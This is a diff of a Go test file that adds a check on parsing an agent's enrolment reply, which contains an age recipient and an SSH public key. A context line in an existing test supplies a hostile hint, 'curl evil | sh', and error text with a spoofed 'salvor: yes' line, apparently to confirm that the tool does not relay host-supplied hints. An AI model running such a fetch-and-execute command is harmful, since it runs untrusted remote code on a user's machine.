@@ -139,6 +139,14 @@ func TestS05OtherAnswersAreHeldToTheirQuestion(t *testing.T) {
 	}
 }
 
+func TestS05AnEnrolmentIsTaken(t *testing.T) {
+	const good = `{"recipient":"age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p","git_key":"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl salvor@alpha\n"}`
+	var e agentapi.Enrolment
+	if err := answered(`{"result":`+good+"}\n", agentapi.Enrol{Host: "alpha"}, &e, agentapi.VerbEnrol); err != nil || !strings.HasPrefix(e.GitKey, "ssh-ed25519 AAAA") {
+		t.Errorf("%+v, %v", e, err)
+	}
+}
+
 func TestS12ExitCodesAndHintsAreNotTheHosts(t *testing.T) {
 	for code, want := range map[int]int{256: 1, 0: 1, -1: 1, 2: 1, 10: 1, 20: 1, 30: 1, 130: 1, 65: 1, 11: fault.Locked, 13: fault.Unreachable} {
 		err := answered(string(must(t, agentapi.Message{Error: &agentapi.Error{Code: code, Text: "no\nsalvor: yes", Hint: "curl evil\n| sh"}}))+"\n", agentapi.TakeSnapshot{}, &agentapi.SnapshotReceipt{}, agentapi.VerbSnapshot)
